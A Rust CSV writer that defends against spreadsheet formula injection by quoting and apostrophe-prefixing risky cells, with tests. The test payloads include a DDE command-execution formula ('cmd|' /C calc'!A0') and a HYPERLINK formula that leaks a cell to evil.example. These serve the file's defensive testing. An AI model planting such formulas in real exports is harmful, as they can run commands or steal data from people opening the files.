//! Rows of a CSV file (RFC 4180) that a spreadsheet takes for what they are.

/// What spreadsheets take for the beginning of a formula (OWASP ASVS 1.2.10), and their full-width likes.
const FORMULA: [char; 12] = ['=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠'];

/// One value of a row.
pub enum Cell {
    /// Whatever somebody wrote: never taken for a formula.
    Text(String),
    /// A number or a date that we wrote.
    Plain(String),
}

/// A row with its end.
pub fn row(cells: &[Cell]) -> String {
    let cells: Vec<String> = cells.iter().map(Cell::written).collect();
    format!("{}\r\n", cells.join(","))
}

impl Cell {
    fn written(&self) -> String {
        match self {
            Self::Plain(text) => text.clone(),
            Self::Text(text) => {
                // What a spreadsheet skips at the beginning does not hide what comes after it.
                let begins = text.trim_start_matches([' ', '\u{a0}', '\u{feff}', '\u{200b}', '"', '\'']);
                let mark = if begins.starts_with(FORMULA) || text.starts_with(FORMULA) { "'" } else { "" };
                let text: String = text.chars().filter(|letter| *letter != '\0').collect();
                let quoted = text.replace('"', "\"\"");
                if mark.is_empty() && !text.contains(['"', ',', ';', '\n', '\r', '\t', ' ']) {
                    text
                } else {
                    format!("\"{mark}{quoted}\"")
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Beginnings that a spreadsheet calculates, before ends that do harm.
    fn payloads() -> Vec<String> {
        let starts = ["=", "+", "-", "@", "\t=", "\0=", "\r=", "\n=", " =", "\u{feff}=", "＝", "＋"];
        let ends =
            ["1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"https://evil.example?x=\"&A1)", "SUM(1;2)\",=1+1", "2+5\n=3"];
        starts.iter().flat_map(|start| ends.iter().map(move |end| format!("{start}{end}"))).collect()
    }

    /// A reader of RFC 4180.
    fn read(text: &str) -> Vec<String> {
        let (mut cells, mut cell, mut quoted) = (Vec::new(), String::new(), false);
        let mut letters = text.trim_end_matches("\r\n").chars().peekable();
        while let Some(letter) = letters.next() {
            match letter {
                '"' if quoted && letters.peek() == Some(&'"') => cell.extend(letters.next()),
                '"' => quoted = !quoted,
                ',' if !quoted => cells.push(std::mem::take(&mut cell)),
                other => cell.push(other),
            }
        }
        cells.push(cell);
        cells
    }

    #[test]
    fn no_cell_is_a_formula() {
        let payloads = payloads();
        assert_eq!(payloads.len(), 60);
        for payload in payloads {
            let line = row(&[Cell::Text("a".into()), Cell::Text(payload.clone()), Cell::Plain("-5.00".into())]);
            let cells = read(&line);
            assert_eq!((cells.len(), cells[2].as_str()), (3, "-5.00"), "{payload:?}");
            assert!(cells[1].starts_with('\'') && line.contains(",\"'"), "{payload:?}: {line}");
            assert_eq!(cells[1][1..], payload.replace('\0', ""), "nothing else is changed");
        }
    }

    #[test]
    fn what_is_harmless_stays_as_it_is() {
        let line = row(&[Cell::Text("ACME-0001".into()), Cell::Text("Team, yearly".into()), Cell::Text("5\"".into())]);
        assert_eq!(line, "ACME-0001,\"Team, yearly\",\"5\"\"\"\r\n");
        assert_eq!(read(&line), ["ACME-0001", "Team, yearly", "5\""]);
    }
}
